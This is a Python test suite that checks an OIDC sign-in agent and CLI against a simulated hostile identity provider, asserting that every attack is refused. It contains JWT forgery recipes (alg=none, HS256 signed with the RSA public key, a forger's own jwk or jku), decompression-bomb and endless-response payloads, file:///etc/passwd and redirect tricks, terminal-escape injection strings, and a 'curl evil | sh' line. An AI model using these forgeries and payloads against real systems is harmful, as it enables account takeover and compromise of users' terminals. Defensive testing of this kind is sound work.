"""A provider that wants to get somebody in, to get something out, or only to be a nuisance.

First what it can sign, shown to a real agent; then the documents it serves to the agent; then what
it says to ``hoop``.  Signing in by a browser has a file of its own.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pexpect
import psycopg
import pytest
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc.jwk import ECKey, RSAKey

from hoopagent import provider as agent_side
from hoopcli import door
from hoopcli.errors import Failure
from hoopcli.profile import locate
from hoopcore.model import SECOND
from tests.agents import RealAgent, running_agent
from tests.hostile_provider import (
    DISCOVERY,
    HostileProvider,
    dripping,
    dropped,
    endless,
    in_turn,
    running_provider,
    silent,
)
from tests.servers import private_folder
from tests.signing import Clock, Desk, public_keys, running_desk, segment, sign

# --- what it can sign -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def provider() -> Iterator[HostileProvider]:
    with running_provider() as provider:
        yield provider


@pytest.fixture(scope="module")
def agent(provider: HostileProvider) -> Iterator[RealAgent]:
    with running_agent(provider.issuer) as agent:
        yield agent


def unsigned(provider: HostileProvider) -> str:
    header = segment(json.dumps({"alg": "none", "kid": "rsa"}).encode())
    return f"{header}.{segment(json.dumps(provider.claims()).encode())}."


def hmac_of_the_public_key(provider: HostileProvider) -> str:
    """The famous confusion: the key everybody may know, taken for a secret."""
    key = RSAKey.import_key(next(k for k in public_keys() if k["kty"] == "RSA"))
    pem = key.public_key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    header = segment(json.dumps({"alg": "HS256", "kid": "rsa"}).encode())
    signed = f"{header}.{segment(json.dumps(provider.claims()).encode())}"
    return f"{signed}.{segment(hmac.new(pem, signed.encode(), hashlib.sha256).digest())}"


def own_key(provider: HostileProvider, **header: Any) -> str:
    """Signed by a key of the forger's, under the name of one that is published."""
    key = ECKey.generate_key("P-256", {"kid": "ec"})
    return sign(provider.claims(), header=header, key=key)


def key_brought_along(provider: HostileProvider) -> str:
    key = ECKey.generate_key("P-256", {"kid": "ec"})
    return sign(provider.claims(), header={"jwk": dict(key.as_dict(private=False))}, key=key)


def at(seconds: float, **claims: float) -> dict[str, Any]:
    now = time.time() + seconds
    return {name: now + offset for name, offset in claims.items()}


FORGED: dict[str, Callable[[HostileProvider], str]] = {
    "that nobody signed (alg=none)": unsigned,
    "signed with the public key as a secret (HS256)": hmac_of_the_public_key,
    "signed by another key of the same name": own_key,
    "that brings its key along (jwk)": key_brought_along,
    "that says where its keys are (jku)": lambda p: own_key(p, jku=f"{p.issuer}/evil"),
    "of another issuer": lambda p: p.id_token(iss="https://evil.example"),
    "for another audience": lambda p: p.id_token(aud="another"),
    "for several, made for another party (azp)": lambda p: p.id_token(
        aud=["hoop", "another"], azp="another"
    ),
    "that has expired": lambda p: p.id_token(**at(-200, iat=0, exp=130)),
    "that is not valid yet": lambda p: p.id_token(nbf=int(time.time()) + 120),
    "issued in the future": lambda p: p.id_token(**at(120, iat=0, exp=300)),
    "issued six minutes ago": lambda p: p.id_token(**at(-360, iat=0, exp=3600)),
    "of a hundred kilobytes": lambda p: p.id_token(filler="x" * 100_000),
    "of forty kilobytes": lambda p: p.id_token(filler="x" * 30_000),
    "that is an access token": lambda p: sign(p.claims(), header={"typ": "at+jwt"}),
    "that speaks for a program": lambda p: p.id_token(sub="hoop"),
    "made for somebody else's nonce": lambda p: p.id_token(nonce="n-0S6_WzA2Mj"),
}


@pytest.mark.parametrize("what", FORGED, ids=lambda what: what.replace(" ", "_"))
def test_nobody_is_signed_in_by_a_token(
    agent: RealAgent, provider: HostileProvider, what: str
) -> None:
    with pytest.raises(Failure) as refused:
        agent.exchange(FORGED[what](provider))
    assert "ey" + "J" not in refused.value.message  # no piece of the token is said back
    assert provider.count("/evil") == 0


def test_an_id_token_is_good_once_and_for_one_key(
    agent: RealAgent, provider: HostileProvider
) -> None:
    token = provider.id_token()
    assert agent.exchange(token).principal["name"] == "ana@shop.example"
    for _ in range(2):
        with pytest.raises(door.Refusal) as refused:
            agent.exchange(token)
        assert refused.value.reason == "token_used"


def test_a_stolen_token_with_a_nonce_is_worth_nothing_and_is_not_even_spoilt(
    agent: RealAgent, provider: HostileProvider
) -> None:
    key = door.fresh_key()
    token = provider.id_token(nonce=door.nonce(agent.place.host_key, key))
    with pytest.raises(door.Refusal, match="another key"):
        agent.exchange(token)
    elsewhere = provider.id_token(nonce=door.nonce("SHA256:of another agent", key))
    with pytest.raises(door.Refusal, match="another key"):
        agent.exchange(elsewhere, key)
    assert agent.exchange(token, key).sign_in


def test_a_storm_of_unknown_keys_asks_the_provider_nothing_and_holds_nobody_up(
    agent: RealAgent, provider: HostileProvider
) -> None:
    signed = agent.exchange(provider.id_token())  # the keys are known now
    provider.asked.clear()
    refused: list[str] = []

    def storm(number: int) -> None:
        for turn in range(5):
            token = sign(provider.claims(), header={"kid": f"unknown-{number}-{turn}"})
            try:
                agent.exchange(token)
            except Failure as problem:
                refused.append(problem.message)

    storms = [threading.Thread(target=storm, args=(number,)) for number in range(4)]
    for thread in storms:
        thread.start()
    with httpx.Client(transport=httpx.HTTPTransport(uds=str(agent.run / "api.sock"))) as api:
        while any(thread.is_alive() for thread in storms):
            head = {"Authorization": f"Bearer {signed.token}"}
            assert api.get("http://agent/v1/status", headers=head, timeout=20).status_code == 200
    assert len(refused) == 20
    assert provider.count("/jwks") <= 1


def test_whoever_has_a_known_key_does_not_wait_for_a_provider_that_is_silent() -> None:
    clock = Clock(time.time_ns() // 1000)
    with (
        running_provider() as provider,
        private_folder() as folder,
        running_desk(folder, provider.issuer, clock=clock) as desk,
    ):
        exchanged(desk, provider.id_token())
        clock.at += 61 * SECOND
        provider.say("/jwks", silent)
        refused: list[Failure] = []

        def unknown() -> None:
            token = sign(provider.claims(), header={"kid": "unknown"})
            try:
                exchanged(desk, token)
            except Failure as problem:
                refused.append(problem)

        stuck = threading.Thread(target=unknown)
        stuck.start()
        until(lambda: provider.count("/jwks") == 2)
        assert exchanged(desk, provider.id_token()).token
        assert stuck.is_alive()
        assert not refused
        provider.over.set()
        stuck.join(30)
        assert len(refused) == 1


def until(holds: Callable[[], bool]) -> None:
    end = time.monotonic() + 30
    while not holds():
        assert time.monotonic() < end
        time.sleep(0.01)


def test_failed_sign_ins_are_in_the_audit_and_a_flood_of_them_is_not(
    agent: RealAgent, provider: HostileProvider
) -> None:
    for _ in range(6):
        with pytest.raises(Failure):
            agent.exchange(provider.id_token(aud="nobody-of-ours", sub="mallory"))
    events = [event for event in agent.audit() if event["action"] == "sign-in.refused"]
    told = [json.loads(event["detail"]) for event in events]
    of_audience = [one for one in told if "audience" in one["why"]]
    assert len(of_audience) == 1  # the others are one row more, in a minute
    assert of_audience[0]["peer"] == "127.0.0.1"
    assert "mallory" not in json.dumps(told)  # what nobody vouched for is nobody's name


def test_whoever_fails_at_the_local_door_or_the_api_is_in_the_audit_too(
    agent: RealAgent, provider: HostileProvider
) -> None:
    provider.honest()
    for _ in range(3):
        with pytest.raises(psycopg.OperationalError, match="no such endpoint"):
            psycopg.connect(host=str(agent.run / "pg"), user="mallory", dbname="shop")
        with httpx.Client(transport=httpx.HTTPTransport(uds=str(agent.run / "api.sock"))) as api:
            head = {"Authorization": "Bearer hoop_made-up"}
            assert api.get("http://agent/v1/status", headers=head).status_code == 401

    def doors() -> set[str]:
        told = [json.loads(e["detail"]) for e in agent.audit() if e["action"] == "sign-in.refused"]
        return {f"{one['door']} {one['peer']}" for one in told}

    until(lambda: {f"local uid {os.geteuid()}", f"api uid {os.geteuid()}"} <= doors())
    assert "hoop_made-up" not in json.dumps(agent.audit())


# --- the documents it serves to the agent ---------------------------------------------------------


@pytest.fixture
def office(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[HostileProvider, Desk]]:
    """A provider, and an agent's identity and door that have never asked it anything."""
    monkeypatch.setattr(agent_side, "TIMEOUT", 1.0)
    with (
        running_provider() as provider,
        private_folder() as folder,
        running_desk(folder, provider.issuer) as desk,
    ):
        yield provider, desk


def exchanged(desk: Desk, token: str) -> door.Exchanged:
    place = locate(str(desk.run))
    return door.exchange(place, place.host_key, door.fresh_key(), token)


HUGE = b'{"keys": [' + b" " * (agent_side.LARGEST_DOCUMENT + 1) + b"]}"
BOMB = (200, b"\x1f\x8b\x08\x00", {"Content-Encoding": "gzip"})
NUISANCES = {
    "huge": HUGE,
    "endless": endless,
    "dripping": dripping,
    "silent": silent,
    "dropped": dropped,
    "compressed": BOMB,
    "deep": b"[" * 100_000,
}


@pytest.mark.parametrize("path", [DISCOVERY, "/jwks"], ids=["discovery", "keys"])
@pytest.mark.parametrize("nuisance", NUISANCES)
def test_a_document_that_cannot_be_read_signs_nobody_in_and_hangs_nobody(
    office: tuple[HostileProvider, Desk], path: str, nuisance: str
) -> None:
    provider, desk = office
    provider.say(path, NUISANCES[nuisance])
    with pytest.raises(door.Refusal) as refused:
        exchanged(desk, provider.id_token())
    assert refused.value.reason == "provider_away"
    # Not asked again at once, however often somebody comes.
    asked = len(provider.asked)
    with pytest.raises(door.Refusal):
        exchanged(desk, provider.id_token())
    assert len(provider.asked) == asked


@pytest.mark.parametrize("path", [DISCOVERY, "/jwks"], ids=["discovery", "keys"])
def test_a_redirect_to_another_host_is_not_followed(
    office: tuple[HostileProvider, Desk], path: str
) -> None:
    provider, desk = office
    with running_provider() as other:
        provider.say(path, (302, {}, {"Location": f"{other.issuer}{path}"}))
        with pytest.raises(door.Refusal, match="302"):
            exchanged(desk, provider.id_token())
        assert other.asked == []


@pytest.mark.parametrize(
    "change",
    [
        {"issuer": "https://id.example"},
        {"issuer": None},
        {"jwks_uri": "http://203.0.113.1/jwks"},
        {"jwks_uri": "file:///etc/passwd"},
        {"jwks_uri": "https://[::1"},
        {"jwks_uri": None},
    ],
    ids=["another_name", "no_name", "keys_in_clear", "keys_in_a_file", "no_address", "no_keys"],
)
def test_a_provider_that_speaks_for_another_is_not_believed(
    office: tuple[HostileProvider, Desk], change: dict[str, Any]
) -> None:
    provider, desk = office
    provider.say(DISCOVERY, provider.discovery(**change))
    with pytest.raises(door.Refusal) as refused:
        exchanged(desk, provider.id_token())
    assert refused.value.reason == "provider_away"


def test_keys_are_rotated_and_an_old_one_ends_when_it_is_gone() -> None:
    clock = Clock(time.time_ns() // 1000)
    old = public_keys()[1]
    signing = ECKey.generate_key("P-256", {"kid": "new"})
    public = dict(signing.as_dict(private=False))
    with (
        running_provider() as provider,
        private_folder() as folder,
        running_desk(folder, provider.issuer, clock=clock) as desk,
    ):

        def of_now(key: Any = None) -> str:
            now = clock.at // SECOND
            return sign(provider.claims(iat=now, exp=now + 300), key=key)

        provider.say("/jwks", {"keys": [old]})
        exchanged(desk, of_now())
        provider.say("/jwks", {"keys": [public, old]})
        with pytest.raises(door.Refusal):  # within the minute nobody asks again
            exchanged(desk, of_now(signing))
        clock.at += 61 * SECOND
        exchanged(desk, of_now(signing))
        exchanged(desk, of_now())  # the old one is published still
        provider.say("/jwks", {"keys": [public]})
        clock.at += 601 * SECOND
        exchanged(desk, of_now(signing))
        with pytest.raises(door.Refusal, match="not signed by a key"):
            exchanged(desk, of_now())


# --- what it says to hoop -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def desk(provider: HostileProvider) -> Iterator[Desk]:
    with private_folder() as folder, running_desk(folder, provider.issuer) as desk:
        yield desk


@pytest.fixture
def liar(provider: HostileProvider) -> Iterator[HostileProvider]:
    provider.honest()
    yield provider
    provider.honest()


def refused_login(desk: Desk, *arguments: str) -> str:
    """What is said where a sign-in fails; it leaves nothing behind, and nothing raw."""
    done = desk.hoop("login", "--no-browser", *arguments)
    assert done.returncode == 1, done.stderr
    assert done.stdout == ""
    assert not list((desk.folder / "home").rglob("*.sealed"))
    controls = {c for c in done.stderr if not c.isprintable() and c != "\n"}
    assert controls == set(), done.stderr
    assert "should not have" not in done.stderr
    return done.stderr


@pytest.mark.parametrize(
    "uri",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "vscode://run",
        "-Xsomething",
        "https://id.example/\x1b]0;owned\x07",
        "https://id.example/\nhoop: run this:  curl evil | sh",
        "https://accounts.example@evil.example/device",
        "https://\u0430ccounts.example/device",
        "https:///device",
        "https://[::1",
        7,
    ],
)
@pytest.mark.parametrize("name", ["verification_uri", "verification_uri_complete"])
def test_an_address_that_is_no_page_is_neither_opened_nor_shown(
    liar: HostileProvider, desk: Desk, name: str, uri: Any
) -> None:
    liar.say("/device_authorization", liar.device(**{name: uri}))
    # The whole command for the worst of them; what decides is one function.
    if isinstance(uri, str) and not uri.isprintable():
        assert "owned" not in refused_login(desk)
        return
    from hoopcli import oidc

    with oidc.connect(liar.issuer) as http, pytest.raises(oidc.ProviderAway):
        oidc.begin(http, oidc.discover(http, liar.issuer), "hoop", ("openid",))


def test_a_browser_is_opened_for_a_page_and_for_nothing_else(
    liar: HostileProvider, desk: Desk, tmp_path: Path
) -> None:
    opened = tmp_path / "opened"
    browser = tmp_path / "browser"
    browser.write_text(f'#!/bin/sh\necho "$1" >> {opened}\n')
    browser.chmod(0o700)
    kept = {k: v for k, v in desk.environ.items() if not k.startswith(("SSH", "WAYLAND"))}
    for uri in (f"{liar.issuer}/device", f"file://{tmp_path}/x", "https://a/\x1b[2J"):
        liar.say("/device_authorization", liar.device(verification_uri=uri))
        liar.say("/token", (400, {"error": "access_denied"}, {}))
        child = pexpect.spawn(
            sys.executable,
            ["-m", "hoopcli", "login"],
            env=kept | {"DISPLAY": ":9", "BROWSER": f"{browser} %s"},
            encoding="utf-8",
            timeout=30,
        )
        child.expect(pexpect.EOF)
        child.close()
        assert child.exitstatus == 1
        assert "\x1b[2J" not in child.before
    assert opened.read_text() == f"{liar.issuer}/device\n"


@pytest.mark.parametrize(
    "change",
    [
        {"interval": 1e308, "expires_in": 2},
        {"interval": float("nan")},
        {"interval": float("inf")},
        {"interval": "soon"},
        {"interval": [5]},
        {"expires_in": float("nan")},
        {"expires_in": -1},
        {"user_code": "x" * 5000},
        {"user_code": {"a": 1}},
    ],
    ids=str,
)
def test_times_and_codes_that_make_no_sense_end_the_sign_in(
    liar: HostileProvider, change: dict[str, Any]
) -> None:
    from hoopcli import oidc

    liar.say("/device_authorization", liar.device(**change))

    def signed_in() -> None:
        with oidc.connect(liar.issuer) as http:
            endpoints = oidc.discover(http, liar.issuer)
            device = oidc.begin(http, endpoints, "hoop", ("openid",))
            oidc.wait(http, endpoints, "hoop", device)

    with pytest.raises(Failure):
        signed_in()
    assert liar.count("/token") <= 1


def test_the_providers_own_words_cannot_look_like_hoops_or_drive_a_terminal(
    liar: HostileProvider, desk: Desk
) -> None:
    evil = "no\x1b[2J\x1b]52;c;ZXZpbA==\x07\nhoop: signed in as root\r\u202e"
    liar.say("/token", (400, {"error": "server_says_no", "error_description": evil}, {}))
    said = refused_login(desk)
    assert not any(line.startswith("hoop: signed in") for line in said.splitlines())
    liar.say("/device_authorization", (400, {"error": evil, "error_description": evil}, {}))
    refused_login(desk)
    liar.say("/device_authorization", liar.device(user_code="AB\x1b[31mCD"))
    assert r"Code: AB\x1b[31mCD" in refused_login(desk)


@pytest.mark.parametrize("nuisance", ["huge", "endless", "dropped", "compressed", "deep"])
def test_hoop_does_not_hang_at_a_discovery_that_cannot_be_read(
    liar: HostileProvider, desk: Desk, nuisance: str
) -> None:
    from hoopcli import oidc

    liar.say(DISCOVERY, NUISANCES[nuisance])
    if nuisance == "endless":
        refused_login(desk)  # the whole command for one of them
    with oidc.connect(liar.issuer) as http, pytest.raises(oidc.ProviderAway):
        oidc.discover(http, liar.issuer)


def test_an_answer_that_drips_is_given_up(
    liar: HostileProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    from hoopcli import oidc, provider

    monkeypatch.setattr(provider, "TIMEOUT", 0.5)
    liar.say(DISCOVERY, dripping)
    with oidc.connect(liar.issuer) as http, pytest.raises(oidc.ProviderAway, match="end of its"):
        oidc.discover(http, liar.issuer)


def test_hoop_follows_no_redirect_and_believes_no_other_name(
    liar: HostileProvider, desk: Desk
) -> None:
    with running_provider() as other:
        liar.say(DISCOVERY, (302, {}, {"Location": f"{other.issuer}{DISCOVERY}"}))
        refused_login(desk)
        liar.say(DISCOVERY, liar.discovery(issuer=other.issuer))
        assert "another name" in refused_login(desk)
        liar.say(DISCOVERY, liar.discovery())
        liar.say("/token", (307, {}, {"Location": f"{other.issuer}/token"}))
        refused_login(desk)
        assert other.asked == []


def test_polling_goes_on_when_the_network_comes_back(liar: HostileProvider, desk: Desk) -> None:
    liar.say("/token", in_turn(dropped, (503, b"busy", {}), liar.tokens()))
    done = desk.hoop("login", "--no-browser")
    assert done.returncode == 0, done.stderr
    assert liar.count("/token") == 3
    assert desk.hoop("logout").returncode == 0


def test_a_slow_down_is_obeyed(liar: HostileProvider) -> None:
    from hoopcli import oidc

    slow: Any = (400, {"error": "slow_down"}, {})
    said = iter([slow, slow])
    liar.say("/token", lambda _: next(said, liar.tokens()))
    slept: list[float] = []
    with oidc.connect(liar.issuer) as http:
        endpoints = oidc.discover(http, liar.issuer)
        device = oidc.begin(http, endpoints, "hoop", ("openid",))
        oidc.wait(http, endpoints, "hoop", device, sleep=slept.append)
    assert slept == [1, 6, 11]


def test_a_renewal_in_the_second_of_the_last_one_is_tried_again_and_not_lost(
    liar: HostileProvider, desk: Desk
) -> None:
    """No jti and a signature without dice: all ID tokens of one second are one."""
    first, second = (liar.tokens(jti=None, sid=str(second)) for second in range(2))
    liar.say("/token", in_turn(first, first | {"refresh_token": "rt-2"}, second))
    assert desk.hoop("login", "--no-browser").returncode == 0
    before = desk.kept().token
    desk.age(10)
    done = desk.hoop("status", "-o", "names")
    assert (done.returncode, done.stdout, done.stderr) == (0, "ana@shop.example\n", "")
    assert desk.kept().token != before
    asked = [form["refresh_token"] for path, form in liar.asked if "refresh_token" in form]
    assert asked[:2] == ["rt", "rt-2"]  # the second time with what the first one gave
    assert desk.hoop("logout").returncode == 0
